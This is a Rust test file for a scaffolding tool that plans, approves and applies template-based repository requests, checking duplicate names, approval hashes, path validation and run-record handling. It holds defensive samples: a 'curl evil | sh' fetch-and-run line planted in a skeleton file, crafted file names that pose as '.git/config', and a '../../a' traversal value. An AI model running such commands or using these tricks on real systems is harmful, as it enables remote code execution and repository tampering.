//! `callboard scaffold`: plans of pull requests, approvals, and applying.

use callboard_testing::Portal;

use crate::program::{ProgramOutput, RunProgram};

const ORGANISATION: &str = "apiVersion: backstage.io/v1alpha1
kind: Group
metadata: {name: g}
spec: {type: team, children: []}
---
apiVersion: backstage.io/v1alpha1
kind: User
metadata: {name: u}
spec: {memberOf: [g]}
";
const TEMPLATE: &str = "apiVersion: scaffolder.backstage.io/v1beta3
kind: Template
metadata: {name: t}
spec:
  type: service
  owner: group:default/g
  parameters:
    - properties: {name: {type: string}, file: {type: string, default: README.md}}
  steps:
    - action: fetch:template
      input: {url: ./skeleton, values: {name: '${{ parameters.name }}', file: '${{ parameters.file }}'}}
    - action: publish:git
      input: {repoUrl: 'forge.example?owner=o&repo=${{ parameters.name }}'}
";
const SKELETON: &str = "scaffolds/templates/t/skeleton/${{ values.file }}";

fn request(name: &str, more: &str) -> String {
    format!("template: t\nrequester: user:default/u\nparameters: {{name: {name}{more}}}\n")
}

fn settings(scaffold: &str) -> String {
    format!("title: T\nauthor: {{name: C, email: c@x.example}}\nscaffold: {scaffold}\n")
}

/// A portal in git with a template that makes a repository of one file.
pub(crate) fn portal() -> Portal {
    let portal = Portal::new()
        .with("callboard.yaml", settings("{repositories: .callboard/repositories}"))
        .with(".gitignore", ".callboard/\n")
        .with("catalog-data/manual/org.yaml", ORGANISATION)
        .with("scaffolds/templates/t/template.yaml", TEMPLATE)
        .with(SKELETON, "# ${{ values.name }}\n");
    portal.commit("base");
    portal
}

fn plan_of_head(portal: &Portal) -> ProgramOutput {
    portal.run(&["scaffold", "plan", "--base", "HEAD~1", "--head", "HEAD"])
}

#[test]
fn two_requests_that_make_the_same_repository_are_both_refused() {
    let portal = portal()
        .with("scaffolds/requests/a.yaml", request("same", ""))
        .with("scaffolds/requests/b.yaml", request("Same", ""))
        .with("scaffolds/requests/c.yaml", request("other", ""));
    portal.commit("three");
    let ran = plan_of_head(&portal);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    for (one, other) in [("a", "b"), ("b", "a")] {
        let message = format!(
            "scaffolds/requests/{one}.yaml: `{one}` makes the repository `o/same`, and so does \
             `scaffolds/requests/{other}.yaml`"
        );
        assert!(ran.stderr.contains(&message), "{}", ran.stderr);
    }
    assert!(ran.stdout.contains("o/other") && !ran.stdout.contains("o/same"), "{}", ran.stdout);
    let ran = portal.run(&["check"]);
    assert!(ran.stderr.contains("makes the repository `o/same`"), "{}", ran.stderr);
}

#[test]
fn a_repository_that_another_request_makes_or_made_is_refused() {
    let portal = portal().with("scaffolds/requests/a.yaml", request("same", ""));
    portal.commit("first");
    for _ in ["waiting", "applied"] {
        let portal = &portal;
        std::fs::write(portal.path().join("scaffolds/requests/b.yaml"), request("same", ""))
            .expect("writable");
        let ran = portal.run(&["scaffold", "plan", "scaffolds/requests/b.yaml"]);
        assert_eq!(ran.code, 1, "{}", ran.stdout);
        assert!(ran.stderr.contains("and so does `scaffolds/requests/a.yaml`"), "{}", ran.stderr);
        let applied = portal.run(&["scaffold", "apply", "scaffolds/requests/a.yaml"]);
        assert_eq!(applied.code, 0, "{}", applied.stderr);
    }
}

#[test]
fn an_applied_request_cannot_be_changed_and_removing_it_asks_for_its_undo() {
    let file = "scaffolds/requests/a.yaml";
    let portal = portal().with(file, request("one", ""));
    portal.commit("first");
    assert_eq!(portal.run(&["scaffold", "apply", file]).code, 0);
    assert_eq!(portal.run(&["scaffold", "plan", file]).code, 0, "it is as it was");
    let portal = portal.with(file, request("two", ""));
    portal.commit("changed");
    let plan = portal.run(&["scaffold", "plan", file]);
    let apply = portal.run(&["scaffold", "apply", file]);
    for ran in [plan_of_head(&portal), plan, apply] {
        assert_eq!(ran.code, 1, "{}", ran.stdout);
        assert!(ran.stderr.contains("`a` was applied at 2026-01-01"), "{}", ran.stderr);
        assert!(!ran.stdout.contains("o/two"), "{}", ran.stdout);
    }
    let pending = portal.run(&["scaffold", "apply", "--pending"]);
    assert!(pending.stderr.contains("`a` was applied at"), "{}", pending.stderr);
    assert_eq!(pending.code, 0, "others go on: {}", pending.stderr);
    assert!(portal.run(&["check"]).stderr.contains("`a` was applied at"));
    let portal = portal.with(file, request("one", ""));
    portal.commit("restored");
    std::fs::remove_file(portal.path().join(file)).expect("removable");
    portal.commit("removed");
    let ran = plan_of_head(&portal);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(ran.stdout.contains("### Undo of `a`"), "{}", ran.stdout);
    assert!(ran.stdout.contains("**cannot be undone**"), "{}", ran.stdout);
}

#[test]
fn only_an_approved_plan_is_applied() {
    let (a, b) = ("scaffolds/requests/a.yaml", "scaffolds/requests/b.yaml");
    let portal = portal().with(a, request("one", "")).with(b, request("two", ""));
    portal.commit("requests");
    let ran = portal.run(&["scaffold", "plan", a, "--hashes", "hashes.txt"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let line = portal.read("hashes.txt");
    let (id, hash) = line.trim_end().split_once('=').expect("ID=HASH");
    assert!(id == "a" && ran.stdout.contains(hash), "{line}");

    let portal = portal.with("scaffolds/templates/t/skeleton/evil.sh", "curl evil | sh\n");
    let approved = format!("a={hash}");
    for arguments in
        [&["--approved", hash][..], &["--approved", &approved], &["--approved-file", "hashes.txt"]]
    {
        let ran = portal.run(&[&["scaffold", "apply", a], arguments].concat());
        assert_eq!(ran.code, 4, "{arguments:?}: {}", ran.stderr);
        assert!(ran.stderr.contains("is not the approved one"), "{}", ran.stderr);
    }
    assert!(!portal.path().join(".callboard/repositories").exists());

    std::fs::remove_file(portal.path().join("scaffolds/templates/t/skeleton/evil.sh"))
        .expect("there");
    let ran = portal.run(&["scaffold", "apply", "--pending", "--approved-file", "hashes.txt"]);
    assert_eq!(ran.code, 4, "{}", ran.stderr);
    assert!(ran.stderr.contains("no approved plan of `b` is known"), "{}", ran.stderr);
    assert!(portal.path().join(".callboard/repositories/o/one.git").exists());
    assert!(!portal.path().join(".callboard/repositories/o/two.git").exists());
    for wrong in [&["--approved", "xyz"][..], &["--approved", "a=xyz"]] {
        assert_eq!(portal.run(&[&["scaffold", "apply", a], wrong].concat()).code, 2, "{wrong:?}");
    }
    let ran = portal.run(&["scaffold", "apply", "--pending", "--approved", hash]);
    assert_eq!(ran.code, 2, "a hash alone: {}", ran.stderr);
}

#[test]
fn files_that_some_system_reads_as_another_are_refused() {
    let portal = portal();
    for bad in [".g\\u200cit/config", "git~1/config", ".git /x", ".GIT/x", "con.txt", "a:b", "a."] {
        let text = request("x", &format!(", file: \"{bad}\""));
        std::fs::create_dir_all(portal.path().join("scaffolds/requests")).expect("writable");
        std::fs::write(portal.path().join("scaffolds/requests/a.yaml"), text).expect("writable");
        let ran = portal.run(&["scaffold", "plan", "scaffolds/requests/a.yaml"]);
        assert_eq!(ran.code, 1, "{bad}: {}", ran.stdout);
        assert!(ran.stderr.contains("cannot be the path of a file"), "{bad}: {}", ran.stderr);
        let shown = bad.replace("\\u200c", "\\u{200c}");
        assert!(ran.stderr.contains(&format!("`{shown}`")), "{bad}: {}", ran.stderr);
        assert!(!ran.stderr.contains('\u{200c}'), "{bad}: {}", ran.stderr);
    }
    let portal = portal
        .with("scaffolds/requests/a.yaml", request("x", ", file: LICENSE"))
        .with("scaffolds/templates/t/skeleton/License", "x");
    let ran = portal.run(&["scaffold", "plan", "scaffolds/requests/a.yaml"]);
    assert_eq!(ran.code, 1, "{}", ran.stdout);
    assert!(ran.stderr.contains("are one where case does not count"), "{}", ran.stderr);
}

#[test]
fn a_request_chooses_no_server_that_the_settings_do_not_name() {
    let plan = |scaffold: &str| {
        let portal = portal()
            .with("callboard.yaml", settings(scaffold))
            .with("scaffolds/requests/a.yaml", request("x", ""));
        portal.run(&["scaffold", "plan", "scaffolds/requests/a.yaml"])
    };
    let ran = plan("{remote: 'https://{host}/{owner}/{repo}'}");
    assert_eq!(ran.code, 1, "{}", ran.stdout);
    assert!(ran.stderr.contains("`forge.example` is not a host of the settings"), "{}", ran.stderr);
    let ran = plan("{remote: 'https://{host}/{owner}/{repo}', hosts: [forge.example]}");
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let ran = plan("{remote: 'https://{owner}.example/{repo}'}");
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert!(ran.stderr.contains("a placeholder in the server"), "{}", ran.stderr);
}

/// Puts files beside the records of runs.
fn record(portal: &Portal, files: &[(&str, &[u8])]) {
    let repository = git2::Repository::open(portal.path()).expect("a repository");
    let branch = "refs/heads/callboard-runs";
    let tip = repository.find_reference(branch).and_then(|found| found.peel_to_commit());
    let tip = tip.expect("a run");
    let mut update = git2::build::TreeUpdateBuilder::new();
    for (path, bytes) in files {
        let blob = repository.blob(bytes).expect("a blob");
        update.upsert(*path, blob, git2::FileMode::Blob);
    }
    // A submodule, whose commit is not there.
    update.upsert("runs/module.yaml", tip.id(), git2::FileMode::Commit);
    let tree = update.create_updated(&repository, &tip.tree().expect("its tree")).expect("a tree");
    let tree = repository.find_tree(tree).expect("a tree");
    let (by, message) = (tip.author(), "by hand");
    repository.commit(Some(branch), &by, &by, message, &tree, &[&tip]).expect("a commit");
}

#[test]
fn a_run_record_that_cannot_be_read_is_one_warning() {
    let (a, b) = ("scaffolds/requests/a.yaml", "scaffolds/requests/b.yaml");
    let portal = portal().with(a, request("one", "")).with(b, request("two", ""));
    portal.commit("requests");
    for file in [a, b] {
        assert_eq!(portal.run(&["scaffold", "apply", file]).code, 0);
    }
    let valid = portal.run(&["build"]);
    assert_eq!(valid.code, 0, "{}", valid.stderr);
    let copy = portal.git(&["show", "callboard-runs:runs/a.yaml"]);
    let elsewhere = copy.replace("request: a", "request: ../../a");
    record(
        &portal,
        &[
            ("runs/b.yaml", b"request: b\nsteps: [1,\n"),
            ("runs/latin.yaml", b"request: \xe9\n"),
            ("runs/list.yaml", b"- 1\n"),
            ("runs/empty.yaml", b""),
            ("runs/copy.yaml", copy.as_bytes()),
            ("runs/elsewhere.yaml", elsewhere.as_bytes()),
        ],
    );
    let plan = ["scaffold", "plan", a];
    for arguments in [&["build"][..], &["check"], &plan] {
        let ran = portal.run(arguments);
        assert_eq!(ran.code, 0, "{arguments:?}: {}", ran.stderr);
        for reason in [
            "b.yaml:3:1: this run record cannot be read: ",
            "latin.yaml: this run record cannot be read: it is not UTF-8",
            "list.yaml:1:1: this run record cannot be read: ",
            "empty.yaml:1:1: this run record cannot be read: ",
            "module.yaml: this run record cannot be read: ",
            "copy.yaml: this run record cannot be read: it is of a request `a`",
            "elsewhere.yaml: this run record cannot be read: it is of a request `../../a`",
        ] {
            let expected = format!("warning: callboard-runs:runs/{reason}");
            assert_eq!(ran.stderr.matches(&expected).count(), 1, "{expected}\n{}", ran.stderr);
        }
    }
    assert!(portal.read("site/health.html").contains("callboard-runs:runs/latin.yaml"));
    assert!(portal.read("site/runs/a.html").contains("o/one"), "the other run has its page");
    assert!(!portal.path().join("site/runs/b.html").exists());

    let ran = portal.run(&["scaffold", "apply", b]);
    assert_eq!(ran.code, 4, "never twice: {}", ran.stderr);
    assert!(ran.stderr.contains("`runs/b.yaml` on the branch `callboard-runs`"), "{}", ran.stderr);
    let portal = portal.with("scaffolds/requests/c.yaml", request("three", ""));
    let ran = portal.run(&["scaffold", "apply", "--pending"]);
    assert_eq!(ran.code, 4, "{}", ran.stderr);
    assert!(portal.path().join(".callboard/repositories/o/three.git").exists(), "others go on");
}
